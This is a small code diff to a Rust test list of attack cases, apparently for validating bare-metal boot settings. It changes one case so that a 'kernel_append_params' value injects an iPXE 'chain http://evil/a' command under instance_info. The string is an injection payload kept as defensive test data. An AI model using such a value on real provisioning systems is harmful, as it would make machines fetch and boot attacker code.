@@ -79,7 +79,7 @@ pub(super) fn returning() -> Vec<Attack> {
         bad(
             "ipxe-next-command",
             setting(
-                json!({"driver_info": {"kernel_append_params": "quiet -- ; chain http://evil/a #"}}),
+                json!({"instance_info": {"kernel_append_params": "quiet -- ; chain http://evil/a #"}}),
             ),
             "has text that iPXE would act on",
         ),
